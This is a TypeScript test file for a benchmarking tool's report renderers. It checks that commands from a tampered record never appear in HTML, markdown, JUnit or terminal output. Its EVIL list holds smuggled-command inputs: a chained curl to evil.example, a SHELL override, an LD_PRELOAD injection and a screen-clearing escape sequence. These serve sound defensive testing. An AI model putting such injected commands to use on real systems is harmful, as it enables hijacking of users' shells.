import assert from 'node:assert/strict';
import { test } from 'node:test';
import { NO_COMMAND } from './commands.ts';
import { formatCompareMarkdown, renderCompare } from './compare.ts';
import { formatExperimentMarkdown, renderExperiment } from './experiment.ts';
import { renderFindings } from './findings.ts';
import { formatFindingsMarkdown } from './findings-markdown.ts';
import { doubtfulPlan } from './fixtures/capacity-plans.ts';
import { comparisonFixture } from './fixtures/comparisons.ts';
import { experimentFixture } from './fixtures/experiments.ts';
import { findingsFixture } from './fixtures/findings.ts';
import { failingResult } from './fixtures/results.ts';
import { selftestRecord } from './fixtures/selftest.ts';
import { judgedOf } from './fixtures/thresholds.ts';
import { formatJUnit } from './junit.ts';
import { renderReport } from './report.ts';
import { formatRunMarkdown } from './run-markdown.ts';
import { renderSelftest } from './selftest.ts';
import { formatSelftestMarkdown } from './selftest-markdown.ts';
import { renderCapacityPlan } from './stamp.ts';
import { formatSummary } from './terminal.ts';

/** What whoever changed a record would have its reader type. */
const EVIL = [
	'doubletake run; curl evil.example',
	'make run-2a SHELL=evil.example',
	'LD_PRELOAD=evil.example doubletake run',
	'\u001b[2J evil.example',
];

/** Everything that is made of a record which says so. */
async function madeWith(command: string): Promise<string[]> {
	const step = { command, why: 'it is better' };
	const result = { ...failingResult(), command, try_next: [step, { ...step, once_valid: true as const }] };
	const judged = judgedOf('failure_rate<0.001', result);
	const base = comparisonFixture({ command });
	const comparison = { ...base, control: base.control && { ...base.control, command } };
	const findings = { ...findingsFixture(), command };
	const record = selftestRecord();
	const selftest = { ...record, system: { ...record.system, command } };
	return [
		await renderReport(result, { files: [] }),
		formatRunMarkdown({ result, judged }),
		formatRunMarkdown({ result, judged: [] }),
		formatSummary(result, 'report.html', judged),
		formatJUnit({ suite: 'x', result, judged }),
		await renderCompare(comparison),
		formatCompareMarkdown(comparison),
		await renderExperiment(experimentFixture({ command })),
		formatExperimentMarkdown(experimentFixture({ command })),
		renderFindings(findings),
		formatFindingsMarkdown(findings),
		renderCapacityPlan({ ...doubtfulPlan('doubt'), command }),
		renderSelftest(selftest),
		formatSelftestMarkdown(selftest),
	];
}

/** What its reader sees. */
const seen = (page: string) => page.replace(/<script[\s\S]*?<\/script>/g, '').replace(/<style[\s\S]*?<\/style>/g, '');

test('a command that the lab would not write is on no page, in no summary and on no terminal', async () => {
	for (const command of EVIL) {
		const made = await madeWith(command);
		for (const [index, page] of made.entries()) assert.doesNotMatch(seen(page), /evil/, `${command}, ${index}`);
		assert.ok(made.filter((page) => page.includes(NO_COMMAND)).length >= 9);
	}
});

test('one that it would is on all of them', async () => {
	const made = await madeWith('make compare A=a B=2a LOAD=ramp BUDGET=fair REPEATS=8 SEED=1');
	for (const [index, page] of made.entries()) assert.ok(page.includes('make compare A=a B=2a LOAD=ramp'), String(index));
});
